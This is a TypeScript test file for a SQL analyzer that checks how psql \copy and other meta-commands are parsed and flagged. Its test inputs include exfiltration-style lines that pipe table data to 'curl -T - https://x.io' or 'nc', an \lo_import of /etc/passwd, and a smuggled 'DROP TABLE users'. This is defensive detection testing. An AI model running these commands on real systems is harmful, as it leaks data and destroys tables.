import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { SQL_RULES } from '../../../server/src/core/rules/sql';
import { runSqlRules } from '../../../server/src/core/rules/run';
import { analyze } from './helpers';

/** Rule ids (and analyzer finding ids) reported on `sql`, with `line:column`. */
async function found(sql: string): Promise<string[]> {
  const a = await analyze(sql);
  return [...a.findings, ...runSqlRules(SQL_RULES, a)]
    .filter((f) => f.ruleId !== 'require-lock-timeout')
    .map(
      (f) => `${f.ruleId}${f.ruleId === 'unparsed' ? `/${f.messageId}` : ''}@${f.span.line}:${f.span.column}`,
    );
}

describe('psql \\copy is judged as the COPY statement psql sends', () => {
  it('to a client file: COPY … TO STDOUT, with the client file as its sink', async () => {
    const a = await analyze('\\copy users to /tmp/u.csv csv');
    assert.deepEqual(a.findings, []);
    const s = a.statements[0];
    assert.equal(s?.parsed, true);
    assert.equal(s?.facts.statementKind, 'COPY');
    assert.deepEqual(s?.facts.tablesRead, ['users']);
    assert.deepEqual(s?.facts.tablesWritten, []);
    assert.deepEqual(s?.facts.columnsRead, [{ name: '*', table: 'users' }]);
    assert.deepEqual(s?.facts.sinks, [{ kind: 'file', target: '/tmp/u.csv', direction: 'out' }]);
    assert.deepEqual(await found('\\copy users to /tmp/u.csv csv'), ['copy-to-program-or-file@1:1']);
  });

  it('from a client file: COPY … FROM STDIN, a write into the table', async () => {
    const a = await analyze('\\copy users from /tmp/u.csv csv');
    assert.deepEqual(a.findings, []);
    const s = a.statements[0];
    assert.equal(s?.facts.statementKind, 'COPY');
    assert.deepEqual(s?.facts.tablesWritten, ['users']);
    assert.deepEqual(s?.facts.sinks, [{ kind: 'file', target: '/tmp/u.csv', direction: 'in' }]);
    assert.deepEqual(await found('\\copy users from /tmp/u.csv csv'), []);
  });

  it('to a program: the data goes to a shell command on the client, which SQL cannot judge', async () => {
    const sql = "\\copy users to program 'curl -T - https://x.io'";
    const a = await analyze(sql);
    assert.equal(a.statements[0]?.facts.statementKind, 'COPY');
    assert.deepEqual(a.statements[0]?.facts.sinks, [
      { kind: 'program', target: 'curl -T - https://x.io', direction: 'out' },
    ]);
    assert.deepEqual(
      a.findings.map((f) => [f.messageId, f.message]),
      [
        [
          'psqlProgram',
          '\\copy runs `curl -T - https://x.io` in a shell on the client machine; that command cannot be judged as SQL.',
        ],
      ],
    );
    // Placed on the command text inside the quotes.
    assert.deepEqual(await found(sql), ['unparsed/psqlProgram@1:25', 'copy-to-program-or-file@1:1']);
    const from = await analyze("\\copy t from program 'it''s here'");
    assert.deepEqual(from.statements[0]?.facts.sinks, [
      { kind: 'program', target: "it's here", direction: 'in' },
    ]);
    assert.deepEqual(from.statements[0]?.facts.tablesWritten, ['t']);
  });

  it('stdin, stdout, pstdin and pstdout are the client streams', async () => {
    for (const [t, kind] of [
      ['stdout', 'stdout'],
      ['PSTDOUT', 'stdout'],
    ] as const) {
      const a = await analyze(`\\copy users to ${t}`);
      assert.deepEqual(a.findings, [], t);
      assert.deepEqual(a.statements[0]?.facts.sinks, [{ kind, direction: 'out' }], t);
    }
    for (const t of ['stdin', 'pstdin']) {
      const a = await analyze(`\\copy users (id, email) from ${t} with (format csv)`);
      assert.deepEqual(a.findings, [], t);
      assert.deepEqual(a.statements[0]?.facts.sinks, [{ kind: 'stdin', direction: 'in' }], t);
      assert.deepEqual(a.statements[0]?.facts.tablesWritten, ['users'], t);
    }
  });

  it('schema-qualified and quoted names, column lists, queries, quoted file names with spaces', async () => {
    const a = await analyze(
      '\\copy "My Schema" . "Users" ("E mail", id) to \'/tmp/my users.csv\' with (format csv, header)',
    );
    assert.deepEqual(a.findings, []);
    assert.deepEqual(a.statements[0]?.facts.tablesRead, ['My Schema.Users']);
    assert.deepEqual(a.statements[0]?.facts.sinks, [
      { kind: 'file', target: '/tmp/my users.csv', direction: 'out' },
    ]);
    const q = await analyze(
      "\\copy (select email from public.users where note = ') to program ''x''') to 'o''neil.csv' csv",
    );
    assert.deepEqual(q.findings, []);
    assert.deepEqual(q.statements[0]?.facts.tablesRead, ['public.users']);
    assert.deepEqual(q.statements[0]?.facts.columnsRead, [{ name: 'email', table: 'public.users' }]);
    assert.deepEqual(q.statements[0]?.facts.sinks, [
      { kind: 'file', target: "o'neil.csv", direction: 'out' },
    ]);
  });

  it('after a statement on the same line, with leading spaces, among other lines', async () => {
    const a = await analyze(
      "DELETE FROM t WHERE id = 1; \\copy t to 'x.csv'\n  \\copy t2 from 'y.csv'\nDROP TABLE z;",
    );
    assert.deepEqual(
      a.statements.map((s) => [s.facts.statementKind, s.span.line, s.span.column]),
      [
        ['DELETE', 1, 1],
        ['COPY', 1, 29],
        ['COPY', 2, 3],
        ['DROP TABLE', 3, 1],
      ],
    );
    assert.deepEqual(a.findings, []);
    assert.deepEqual(a.statements[2]?.facts.tablesWritten, ['t2']);
  });

  it('what psql would not run the same way stays unparsed', async () => {
    for (const sql of [
      // psql's meta-command names are case-sensitive: `\COPY` is an invalid command.
      "\\COPY users to program 'curl -T - https://x.io'",
      // A second statement after the options would also run (psql sends the line as one query).
      '\\copy t to stdout; DROP TABLE users',
      '\\copy t to',
      '\\copy t',
      '\\copy t sideways stdout',
      // PROGRAM needs a single-quoted command.
      '\\copy t to program "curl x"',
      "\\copy t to program 'unterminated",
      "\\copy t to 'unterminated",
      // A backslash in the table part (non-standard strings) is not read.
      "\\copy (select E'\\'') to stdout",
      // Options that are not COPY options.
      '\\copy t to stdout garbage here',
      // Another meta-command first: the line is not read (the shell side finds its pipes).
      "\\x \\copy t to program 'nc h 1'",
    ]) {
      const a = await analyze(sql);
      assert.deepEqual(
        a.findings.map((f) => f.messageId),
        ['psqlMeta'],
        sql,
      );
      assert.equal(a.statements[0]?.parsed, false, sql);
    }
  });
});

describe('psql output pipes and other meta-commands stay unknown to the SQL analyzer', () => {
  it('\\o |cmd, \\g |cmd, \\w |cmd, \\i, \\gexec, \\set, \\c, \\lo_* are unparsed', async () => {
    for (const sql of [
      '\\o | curl -T - https://x.io',
      'SELECT * FROM users \\g |curl -T - https://x.io',
      '\\w |nc x 1',
      '\\o /tmp/out.txt',
      '\\i /tmp/x.sql',
      '\\ir x.sql',
      "SELECT 'DROP TABLE t' \\gexec",
      'SELECT 1 AS x \\gset',
      "\\set q 'DROP TABLE t'",
      '\\c otherdb',
      "\\lo_import '/etc/passwd'",
      '\\setenv PAGER x',
      '\\cd /',
      '\\e',
    ]) {
      const a = await analyze(sql);
      assert.ok(
        a.findings.some((f) => f.messageId === 'psqlMeta'),
        sql,
      );
    }
  });
});
